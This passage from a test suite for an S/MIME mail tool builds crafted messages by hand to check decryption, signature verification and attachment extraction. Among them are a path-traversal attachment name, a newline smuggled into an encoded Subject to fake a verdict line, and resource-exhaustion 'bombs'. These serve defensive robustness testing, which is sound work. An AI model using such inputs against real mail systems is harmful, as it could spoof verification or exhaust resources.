    assert ("date-differs" in verdict["problems"]) == (status == UNTRUSTED)


def test_mail__a_protected_date_may_be_any(people):
    dated = b"Date: Mon, 1 Jan 2001 00:00:00 +0000\r\n" + MESSAGE
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", "--protect-headers", "open", stdin=dated)
    assert "date-differs" not in verify(people, signed, status=OK)["problems"]


# ---- AuthEnvelopedData with authenticated attributes -----------------------------------------------------


def der(tag, *parts):
    body = b"".join(parts)
    n = len(body)
    size = bytes([n]) if n < 128 else bytes([0x80 | (n.bit_length() + 7) // 8]) + n.to_bytes(
        (n.bit_length() + 7) // 8, "big")
    return bytes([tag]) + size + body


OID_AUTH_ENVELOPED = bytes.fromhex("060b2a864886f70d0109100117")
OID_DATA = bytes.fromhex("06092a864886f70d010701")
OID_RSA = bytes.fromhex("06092a864886f70d010101")
OID_GCM = bytes.fromhex("060960864801650304012e")
OID_CONTENT_TYPE = bytes.fromhex("06092a864886f70d010903")


def auth_enveloped(people, who, content, attributes, change=lambda a: a):
    """RFC 5083 by hand, with attributes as its authenticated ones."""
    from cryptography import x509
    from cryptography.hazmat.primitives.asymmetric import padding
    from cryptography.hazmat.primitives.ciphers.aead import AESGCM
    cert = x509.load_pem_x509_certificate(people.crt(who).read_bytes())
    key, nonce = os.urandom(32), os.urandom(12)
    sealed = AESGCM(key).encrypt(nonce, content, der(0x31, *attributes))
    serial = cert.serial_number.to_bytes(cert.serial_number.bit_length() // 8 + 1, "big")
    recipient = der(0x30, b"\x02\x01\x00", der(0x30, cert.issuer.public_bytes(), der(2, serial)),
                    der(0x30, OID_RSA, b"\x05\x00"),
                    der(4, cert.public_key().encrypt(key, padding.PKCS1v15())))
    info = der(0x30, b"\x02\x01\x00", der(0x31, recipient),
               der(0x30, OID_DATA, der(0x30, OID_GCM, der(0x30, der(4, nonce), b"\x02\x01\x10")),
                   der(0x80, sealed[:-16])),
               der(0xa1, *change(attributes)), der(4, sealed[-16:]))
    return (b"From: alice@example.org\r\nContent-Type: application/pkcs7-mime\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n"
            + base64.encodebytes(der(0x30, OID_AUTH_ENVELOPED, der(0xa0, info))))


@pytest.mark.parametrize("size", [0, 1, 15, 16, 17, 4096, 200001])
@pytest.mark.parametrize("padding", [0, 7, 100])
def test_mail__authenticated_attributes_are_authenticated(people, size, padding):
    content = b"Content-Type: text/plain\r\n\r\n" + b"x" * size
    attributes = [der(0x30, OID_CONTENT_TYPE, der(0x31, OID_DATA)),
                  der(0x30, bytes.fromhex("06032a0304"), der(0x31, der(4, b"a" * padding)))]
    key = people.dir / "bob.pem"
    message = auth_enveloped(people, "bob", content, attributes)
    assert coffer("mail", "decrypt", "--key", key, stdin=message).endswith(content)
    altered = auth_enveloped(people, "bob", content, attributes, lambda a: [a[0]])
    coffer("mail", "decrypt", "--key", key, stdin=altered, status=VERIFY)


# ---- winmail.dat ----------------------------------------------------------------------------------------


def winmail(*attachments):
    """TNEF (MS-OXTNEF) as Outlook writes it: (short name, long name or None, content)."""
    def attribute(level, number, data):
        return (bytes([level]) + number.to_bytes(4, "little") + len(data).to_bytes(4, "little") + data
                + (sum(data) & 0xffff).to_bytes(2, "little"))
    out = bytes.fromhex("789f3e220100") + attribute(1, 0x00089006, b"\0\0\1\0")
    for short, long_name, content in attachments:
        out += attribute(2, 0x00069002, bytes(14)) + attribute(2, 0x00018010, short.encode() + b"\0")
        out += attribute(2, 0x0006800f, content)
        if long_name:
            text = (long_name + "\0").encode("utf-16le")
            out += attribute(2, 0x00069005, b"".join(n.to_bytes(4, "little") for n in (
                1, 0x3707001f, 1, len(text))) + text + bytes(-len(text) % 4))
    return out


def with_winmail(data):
    return (b"From: alice@example.org\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nhello\r\n"
            b"--b\r\nContent-Type: application/ms-tnef; name=winmail.dat\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(data) + b"--b--\r\n")


def test_mail__winmail_dat_is_unpacked_and_kept(people, tmp_path):
    big = os.urandom(300000)
    data = winmail(("REPORT~1.PDF", "../Jahresbericht für alle.pdf", b"%PDF"), ("B.BIN", None, big))
    signed = coffer("mail", "sign", "--key", people.dir / "alice.pem", stdin=with_winmail(data))
    out = json.loads(coffer("mail", "extract", "--json", "--dir", tmp_path / "x", stdin=signed))
    found = {f["path"]: (tmp_path / "x" / f["file"]).read_bytes() for f in out["files"]}
    assert sorted(p.rsplit("/", 1)[-1] for p in found) == ["1.1", "1.2", "tnef.1", "tnef.2"]
    assert {"winmail": data, "pdf": b"%PDF", "bin": big} == {
        "winmail": found["1/1.2"], "pdf": found["1/1.2/tnef.1"], "bin": found["1/1.2/tnef.2"]}
    names = sorted(os.listdir(tmp_path / "x"))
    assert len(names) == 4 and any("Jahresbericht" in n and n.endswith(".pdf") for n in names)
    shown = coffer("mail", "show", stdin=signed).decode()
    assert "1/1.2/tnef.2\t300000\tapplication/octet-stream\tB.BIN" in shown


@pytest.mark.parametrize("cut", [0, 3, 20, 60, -1])
def test_mail__a_broken_winmail_dat_is_kept_and_said(tmp_path, cut):
    data = winmail(("A.TXT", None, b"content of a"))[:cut]
    done = subprocess.run([COFFER, "mail", "extract", "--json", "--dir", str(tmp_path / "x")],
                          input=with_winmail(data), capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    assert data in [(tmp_path / "x" / f).read_bytes() for f in os.listdir(tmp_path / "x")]
    assert not any(f.startswith(".coffer-") for f in os.listdir(tmp_path / "x"))
    assert b"can't be read to its end" in done.stderr or not data
    coffer("mail", "show", stdin=with_winmail(data))


# ---- Signers, none and many; bombs ------------------------------------------------------------------------


def smime(der_bytes, what=b"signed-data"):
    return (b"From: alice@example.org\r\nContent-Type: application/pkcs7-mime; smime-type=" + what + b"\r\n"
            b"Content-Transfer-Encoding: base64\r\n\r\n" + base64.encodebytes(der_bytes))


OID_SIGNED = bytes.fromhex("06092a864886f70d010702")


def test_mail__signed_by_nobody_is_no_signature(people):
    content = b"Content-Type: text/plain\r\n\r\nhello\r\n"
    info = der(0x30, b"\x02\x01\x01", der(0x31), der(0x30, OID_DATA, der(0xa0, der(4, content))), der(0x31))
    verdict = verify(people, smime(der(0x30, OID_SIGNED, der(0xa0, info))), status=VERIFY)
    assert "no-signer" in verdict["problems"] and verdict["signatures"][0]["signers"] == []


def test_mail__many_signers_are_all_judged(people, tmp_path):
    (tmp_path / "in").write_bytes(b"Content-Type: text/plain\r\n\r\nhello\r\n")
    args = []
    for who in ("alice", "bob", "carol", "dave"):
        args += ["-signer", people.dir / f"{who}.pem"]
    signed = openssl("cms", "-sign", "-crlfeol", *args, "-in", tmp_path / "in")
    verdict = verify(people, b"From: alice@example.org\r\n" + signed, status=OK)
    assert "several-signers" in verdict["problems"]
    signers = verdict["signatures"][0]["signers"]
    assert [s["state"] for s in signers] == ["good"] * 4
    assert sorted(s["match"] for s in signers) == ["from", "none", "none", "none"]
    args = []
    for i in range(17):
        args += ["-signer", people.add(f"signer{i}", kind=EC)]
    too_many = openssl("cms", "-sign", "-crlfeol", *args, "-in", tmp_path / "in")
    done = subprocess.run([COFFER, "mail", "verify", "--root", str(people.root)],
                          input=b"From: alice@example.org\r\n" + too_many, capture_output=True, timeout=60)
    assert done.returncode != OK


def limited(*args, stdin, megabytes=64, seconds=20):
    """Runs with so much for data and so much processor time."""
    def limit():
        resource.setrlimit(resource.RLIMIT_DATA, (megabytes << 20, megabytes << 20))
        resource.setrlimit(resource.RLIMIT_CPU, (seconds, seconds))
    sanitized = b"__asan_init" in pathlib.Path(COFFER).read_bytes()
    return subprocess.run([COFFER, *map(str, args)], input=stdin, capture_output=True, timeout=120,
                          preexec_fn=None if sanitized else limit)


def bombs():
    deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
                    for i in range(3000))
    rfc822 = b"Content-Type: message/rfc822\r\n\r\n" * 3000
    parameters = b"Content-Type: text/plain" + b"; a*0=x" * 200000 + b"\r\n\r\nx"
    words = b"Subject: " + b"=?utf-8?q?a?= " * 200000 + b"\r\n\r\nx"
    fields = b"X: y\r\n" * 500000 + b"\r\nx"
    addresses = b"From: " + b"a@example.org, " * 100000 + b"\r\n\r\nx"
    comments = b"From: " + b"(" * 100000 + b"\r\n\r\nx"
    parts = b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + b"--b\r\n\r\nx\r\n" * 500000
    compressed = smime(der(0x30, bytes.fromhex("060b2a864886f70d0109100109"), der(0xa0, b"x" * 100)))
    nested = b"Content-Type: text/plain\r\n\r\nx"
    for _ in range(12):
        info = der(0x30, b"\x02\x01\x01", der(0x31), der(0x30, OID_DATA, der(0xa0, der(4, nested))), der(0x31))
        nested = smime(der(0x30, OID_SIGNED, der(0xa0, info)))
    ber = smime(b"\x30\x80" * 500000)
    segments = smime(bytes.fromhex("30800609") + OID_SIGNED[2:] + bytes.fromhex("a0803080020101310030800609")
                     + OID_DATA[2:] + b"\xa0\x80\x24\x80" + b"\x04\x01x" * 1000000)
    return {"deep": deep, "rfc822": rfc822, "parameters": parameters, "words": words, "fields": fields,
            "addresses": addresses, "comments": comments, "parts": parts, "compressed": compressed,
            "nested": nested, "ber": ber, "segments": segments, "line": b"A: b\r\n\r\n" + b"x" * (8 << 20),
            "nul": b"\0" * (8 << 20), "lf": b"A: b\n\n" + b"\n" * (8 << 20)}


@pytest.mark.parametrize("name", ["deep", "rfc822", "parameters", "words", "fields", "addresses", "comments",
                                  "parts", "compressed", "nested", "ber", "segments", "line", "nul", "lf"])
def test_mail__bombs_end_within_64_mb_and_seconds(people, name):
    for command in ("verify", "show"):
        done = limited("mail", command, "--key", people.dir / "bob.pem", stdin=bombs()[name])
        assert done.returncode in (0, 1, 2, 3, 5, 6, 7, 8), (command, done.returncode, done.stderr[-300:])


def test_mail__a_subject_stays_one_line():
    """Encoded line ends make no line of their own that looks like a verdict of ours."""
    shown = coffer("mail", "show", stdin=b"From: eve@example.org\r\nSubject: =?utf-8?Q?hi=0ASigned_by_the_sender.?=\r\n\r\nx\r\n")
    assert b"Subject: hi Signed by the sender.\n" in shown


def test_mail__a_file_is_read_twice_and_a_pipe_once(people, tmp_path):
    """A file needs no spool: TMPDIR can't be written to, and the message is larger than memory keeps."""
    path = tmp_path / "large.eml"
    path.write_bytes(b"From: a@example.org\r\nTo: b@example.org\r\n\r\n" + b"0123456789abcdef\r\n" * 40000)
    env = dict(os.environ, TMPDIR="/nonexistent")
    args = [COFFER, "mail", "encrypt", "--to", people.crt("bob")]
    with open(path, "rb") as file:
        done = subprocess.run(args, stdin=file, env=env, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    plain = coffer("mail", "decrypt", "--key", people.dir / "bob.pem", stdin=done.stdout)
    assert plain.count(b"0123456789abcdef\r\n") == 40000
    done = subprocess.run(args, input=path.read_bytes(), env=env, capture_output=True, timeout=60)
    assert done.returncode != 0 and b"spool" in done.stderr
    assert b"0123" not in done.stdout


def test_mail__a_missing_file_needs_no_key(tmp_path):
    done = subprocess.run([COFFER, "mail", "verify", tmp_path / "nosuch.eml"], capture_output=True, text=True, check=False)
    assert done.returncode != 0 and "cannot open" in done.stderr and "--key" not in done.stderr
